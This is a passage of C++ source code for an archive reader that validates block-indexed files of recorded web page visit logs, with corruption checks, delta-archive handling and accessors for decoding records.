                          std::to_string(inherited_rank));
        }
        inherited_rank = i == 0 ? delta : inherited_rank + delta;
        if (inherited_rank >
            static_cast<std::uint64_t>(std::numeric_limits<int>::max())) {
          return fail(error, fault::ArchiveFault::kCorruptIndex,
                      "inherited rank overflows");
        }
        // Inherited ranks and block ranks partition the site set: a rank
        // that is both "unchanged" and "changed" is corrupt provenance.
        const int r = static_cast<int>(inherited_rank);
        const auto it = std::lower_bound(
            reader.index_.begin(), reader.index_.end(), r,
            [](const IndexEntry& entry, int v) { return entry.rank < v; });
        if (it != reader.index_.end() && it->rank == r) {
          return fail(error, fault::ArchiveFault::kDuplicateSite,
                      "rank " + std::to_string(r) +
                          " is both a delta block and inherited");
        }
        reader.info_.inherited_ranks.push_back(r);
      }
    }
    if (fr.remaining() != 0) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "trailing bytes after the footer extension");
    }
  }
  reader.footer_crc_ = crypto::crc32c(footer->payload);
  // Contiguity: blocks tile the file exactly. A duplicated, dropped, or
  // spliced block cannot satisfy this against any footer.
  std::uint64_t expected = kHeaderSize;
  for (std::size_t i = 0; i < reader.index_.size(); ++i) {
    if (reader.index_[i].offset != expected) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "index entry " + std::to_string(i) + " starts at offset " +
                      std::to_string(reader.index_[i].offset) +
                      ", expected " + std::to_string(expected));
    }
    expected += reader.index_[i].length;
  }
  if (expected != footer_offset) {
    return fail(error, fault::ArchiveFault::kCorruptIndex,
                "block stream ends at offset " + std::to_string(expected) +
                    ", footer begins at " + std::to_string(footer_offset));
  }

  reader.bytes_ = std::move(bytes);
  if (error != nullptr) *error = {};
  return reader;
}

std::optional<BlockFrame> Reader::frame_entry(const IndexEntry& entry,
                                              Error* error) const {
  Error block_error;
  const auto frame =
      decode_block(bytes_, static_cast<std::size_t>(entry.offset),
                   &block_error);
  if (!frame) {
    if (error != nullptr) *error = block_error;
    return std::nullopt;
  }
  const BlockType expected = info_.kind == ArchiveKind::kDelta
                                 ? BlockType::kDelta
                                 : BlockType::kSite;
  if (frame->type != expected || frame->total_size != entry.length) {
    if (error != nullptr) {
      *error = {fault::ArchiveFault::kCorruptIndex,
                "block at offset " + std::to_string(entry.offset) +
                    " does not match its index entry"};
    }
    return std::nullopt;
  }
  // Site and delta payloads both open with their varint rank, so the
  // payload-vs-index rank cross-check covers both kinds.
  const auto rank = peek_site_rank(frame->payload);
  if (!rank || *rank != entry.rank) {
    if (error != nullptr) {
      *error = {fault::ArchiveFault::kCorruptIndex,
                "block at offset " + std::to_string(entry.offset) +
                    " holds rank " + (rank ? std::to_string(*rank) : "?") +
                    ", index claims " + std::to_string(entry.rank)};
    }
    return std::nullopt;
  }
  return frame;
}

std::optional<instrument::VisitLog> Reader::decode_entry(
    const IndexEntry& entry, Error* error) const {
  const auto frame = frame_entry(entry, error);
  if (!frame) return std::nullopt;
  return decode_site_payload(frame->payload, error);
}

bool Reader::reject_unresolved_delta(Error* error) const {
  if (info_.kind != ArchiveKind::kDelta) return false;
  if (error != nullptr) {
    *error = {fault::ArchiveFault::kDeltaUnresolved,
              "delta archive (wave " + std::to_string(info_.wave) +
                  ") — records only exist relative to a base; open the "
                  "chain through store::WaveChain"};
  }
  return true;
}

std::optional<std::string_view> Reader::block_payload(int rank,
                                                      Error* error) const {
  const auto it = std::lower_bound(
      index_.begin(), index_.end(), rank,
      [](const IndexEntry& entry, int r) { return entry.rank < r; });
  if (it == index_.end() || it->rank != rank) {
    if (error != nullptr) {
      *error = {fault::ArchiveFault::kNone,
                "rank " + std::to_string(rank) + " has no block here"};
    }
    return std::nullopt;
  }
  const auto frame = frame_entry(*it, error);
  if (!frame) return std::nullopt;
  if (error != nullptr) *error = {};
  return frame->payload;
}

std::optional<instrument::VisitLog> Reader::visit(int rank,
                                                  Error* error) const {
  if (reject_unresolved_delta(error)) return std::nullopt;
  const auto it = std::lower_bound(
      index_.begin(), index_.end(), rank,
      [](const IndexEntry& entry, int r) { return entry.rank < r; });
  if (it == index_.end() || it->rank != rank) {
    if (error != nullptr) {
      *error = {fault::ArchiveFault::kNone,
                "rank " + std::to_string(rank) + " is not in the archive"};
    }
    return std::nullopt;
  }
  return decode_entry(*it, error);
}

std::optional<instrument::VisitLog> Reader::visit_at(std::size_t i,
                                                     Error* error) const {
  if (reject_unresolved_delta(error)) return std::nullopt;
  if (i >= index_.size()) {
    if (error != nullptr) {
      *error = {fault::ArchiveFault::kNone, "index position out of range"};
    }
    return std::nullopt;
  }
  return decode_entry(index_[i], error);
}

bool Reader::for_each(
    const std::function<void(instrument::VisitLog&&)>& sink,
    Error* error) const {
  if (reject_unresolved_delta(error)) return false;
  for (const IndexEntry& entry : index_) {
    auto log = decode_entry(entry, error);
    if (!log) return false;
    sink(std::move(*log));
  }
  if (error != nullptr) *error = {};
  return true;
}

std::optional<Reader::VerifyStats> Reader::verify(Error* error) const {
  VerifyStats stats;
  stats.file_bytes = bytes_.size();
  if (info_.kind == ArchiveKind::kDelta) {
    // Structural pass: every delta block frames, CRCs, and parses as a
    // well-formed edit script. Record contents need the base to check.
    for (const IndexEntry& entry : index_) {
      const auto frame = frame_entry(entry, error);
      if (!frame) return std::nullopt;
      if (!validate_delta_payload(frame->payload, error)) return std::nullopt;
      ++stats.sites;
    }
    stats.sites += static_cast<int>(info_.inherited_ranks.size());
    if (error != nullptr) *error = {};
    return stats;
  }
  const bool ok = for_each(
      [&stats](instrument::VisitLog&& log) {
        ++stats.sites;
        stats.record_count += log.script_sets.size() + log.http_sets.size() +
                              log.reads.size() + log.requests.size() +
                              log.dom_mods.size() + log.includes.size();
      },
      error);
  if (!ok) return std::nullopt;
  return stats;
}

}  // namespace cg::store
